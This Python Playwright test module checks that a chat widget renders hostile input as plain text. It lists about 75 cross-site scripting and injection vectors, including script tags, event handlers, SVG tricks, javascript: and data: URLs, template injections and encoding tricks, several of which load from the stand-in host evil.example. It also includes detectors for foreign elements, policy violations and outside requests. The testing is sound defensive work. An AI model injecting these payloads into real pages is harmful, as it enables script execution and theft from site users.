"""What an attacker would have the chat take for more than text, and how to see whether it did."""

from __future__ import annotations

from playwright.sync_api import ConsoleMessage, Dialog, Locator, Page, expect

# Sets a mark that can be looked for, and opens a dialog that cannot be overlooked.
PROBE = "globalThis.hit=1,alert(1)"
ELSEWHERE = "evil.example"

VECTORS = [
    # Elements that run a script as they come
    f"<script>{PROBE}</script>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f"</script><script>{PROBE}</script>",
    f"<ScRiPt>{PROBE}</sCrIpT>",
    f"<scr<script>ipt>{PROBE}</scr</script>ipt>",
    f"<script type=module>{PROBE}</script>",
    f"<style>@import '//{ELSEWHERE}/x.css'</style>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}'>",
    f"<base href=//{ELSEWHERE}/>",
    f"<iframe src='javascript:{PROBE}'></iframe>",
    f"<iframe srcdoc='<script>parent.{PROBE}</script>'></iframe>",
    f"<object data='javascript:{PROBE}'></object>",
    f"<embed src='javascript:{PROBE}'>",
    f"<template><script>{PROBE}</script></template>",
    # Event handlers
    f"<img src=x onerror={PROBE}>",
    f'<img src="x" onerror="{PROBE}">',
    f"<img src=x onerror\n={PROBE}>",
    f"<img src=//{ELSEWHERE}/pixel.gif>",
    f"<img srcset=//{ELSEWHERE}/pixel.gif>",
    f"<body onload={PROBE}>",
    f"<input autofocus onfocus={PROBE}>",
    f"<details open ontoggle={PROBE}>",
    f"<video><source onerror={PROBE}></video>",
    f"<audio src=x onerror={PROBE}>",
    f"<marquee onstart={PROBE}>",
    f"<b onclick={PROBE} onmouseover={PROBE}>here</b>",
    f"<form action='javascript:{PROBE}'><button autofocus onfocus={PROBE}>go</button></form>",
    f'" autofocus onfocus={PROBE} x="',
    f"' onmouseover={PROBE} x='",
    f'x" style="background:url(//{ELSEWHERE}/x)" y="',
    # Other namespaces
    f"<svg onload={PROBE}>",
    f"<svg><script>{PROBE}</script></svg>",
    f"<svg><animate onbegin={PROBE} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{PROBE}'><text>here</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={PROBE}>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PROBE}></style>",
    f"<math href='javascript:{PROBE}'>here</math>",
    f"<noscript><p title='</noscript><img src=x onerror={PROBE}>'>",
    f"<!--><img src=x onerror={PROBE}>-->",
    f"<![CDATA[<img src=x onerror={PROBE}>]]>",
    # Addresses that are none
    f"javascript:{PROBE}",
    f"JaVaScRiPt:{PROBE}",
    f"java\tscript:{PROBE}",
    f" \u0001javascript:{PROBE}",
    f"javascript://https://good.example/%0a{PROBE}",
    f"data:text/html,<script>{PROBE}</script>",
    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={PROBE}",
    "vbscript:msgbox(1)",
    f"blob:http://{ELSEWHERE}/1",
    "file:///etc/passwd",
    f"//{ELSEWHERE}/x",
    f"http://{ELSEWHERE}/plain",
    f"https://bank.example@{ELSEWHERE}/",
    # Markdown, as other widgets read it
    f"[here](javascript:{PROBE})",
    f'![here](x" onerror="{PROBE})',
    f"[here](data:text/html,<script>{PROBE}</script>)",
    f"<javascript:{PROBE}>",
    f"```html\n<img src=x onerror={PROBE}>\n```",
    # Templates of one kind and another
    f"{{{{constructor.constructor('{PROBE}')()}}}}",
    f"${{{PROBE}}}",
    f"<%= {PROBE} %>",
    f"#{{{PROBE}}}",
    "{{7*7}}",
    '{"__proto__":{"hit":1},"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hit=1>"}}',
    # Entities and signs that only look like others
    f"&lt;script&gt;{PROBE}&lt;/script&gt;",
    f"&#60;img src=x onerror={PROBE}&#62;",
    f"&#x3c;img src=x onerror={PROBE}&#x3e;",
    f"\\u003cimg src=x onerror={PROBE}\\u003e",
    f"%3Cimg%20src=x%20onerror={PROBE}%3E",
    f"＜script＞{PROBE}＜/script＞",
    f"\u202e>tpircs<{PROBE}\u202c",
    f"<\u200bscript>{PROBE}</\u200bscript>",
    f"<img\u00a0src=x\u2028onerror={PROBE}>",
    f"+ADw-script+AD4-{PROBE}+ADw-/script+AD4-",
]

# Everything that the widget itself is made of.
OURS = set(
    "a article b br button dd dialog div dl dt form header i li ol p path section span svg "
    "textarea time ul".split()
)

# What is in the chat that we have not put there: elements, attributes, addresses.
STRANGE = """(ours) => {
  const root = document.querySelector('zhangwen-chat').shadowRoot;
  const strange = [];
  for (const element of root.querySelectorAll('*')) {
    if (!ours.includes(element.localName)) strange.push(element.outerHTML);
    for (const { name, value } of element.attributes) {
      const bad = name.startsWith('on') || ['src', 'srcset', 'srcdoc', 'style', 'action',
        'formaction', 'xlink:href', 'http-equiv', 'autofocus'].includes(name);
      const link = name === 'href' && !/^(https:|tel:|mailto:)/.test(value);
      if (bad || link) strange.push(`${element.localName} ${name}=${value}`);
    }
  }
  const page = document.querySelectorAll('body *, head *');
  const known = ['main', 'h1', 'p', 'button', 'zhangwen-chat', 'meta', 'title', 'link', 'script'];
  if (document.querySelector('main > h1')) {
    for (const { localName } of page) if (!known.includes(localName)) strange.push(localName);
  }
  return strange;
}"""

# Runs before any script of the page: writes down what its policy has refused.
WATCH = """(() => {
  const refused = [];
  Object.defineProperty(globalThis, '__refused', { value: refused, enumerable: false });
  addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
    refused.push(`${violatedDirective} ${blockedURI} ${sample}`), true);
})()"""


class Watch:
    """Looks on while a page is used. Make it before the page is opened.

    Args:
        page: The page.
    """

    def __init__(self, page: Page) -> None:
        self.dialogs: list[str] = []
        self.complaints: list[str] = []
        self.addresses: list[str] = []
        self._page = page
        page.add_init_script(WATCH)
        page.on("dialog", self._note_dialog)
        page.on("console", self._note_complaint)
        page.context.on("request", lambda request: self.addresses.append(request.url))

    def _note_dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _note_complaint(self, message: ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            self.complaints.append(message.text)

    @property
    def refused(self) -> list[str]:
        """What the page's policy has refused since it was loaded."""
        found: list[str] = self._page.evaluate("() => globalThis.__refused")
        return found

    @property
    def origins(self) -> set[str]:
        """Where the page has asked for something, data: apart."""
        asked = (address for address in self.addresses if not address.startswith("data:"))
        return {"/".join(address.split("/", 3)[:3]) for address in asked}

    def assert_quiet(self) -> None:
        """The policy had nothing to refuse, and nothing went wrong on the page."""
        assert self.refused == []
        assert self.complaints == []
        assert self.dialogs == []

    def assert_harmless(self) -> None:
        """No attack has had any effect."""
        self.assert_quiet()
        assert not self._page.evaluate("() => 'hit' in globalThis || 'hit' in {}")
        assert self._page.evaluate(STRANGE, sorted(OURS)) == []
        assert ELSEWHERE not in str(self.origins)
        assert len(self._page.context.pages) == 1


def assert_verbatim(place: Locator, new_tab: str, vectors: list[str] = VECTORS) -> None:
    """Every attack can be read as it was written; links say besides that they open a new tab."""
    expect(place).to_contain_text(vectors[-1].strip())
    shown = (place.text_content() or "").replace(new_tab, "")
    assert [vector for vector in vectors if vector.strip() not in shown] == []
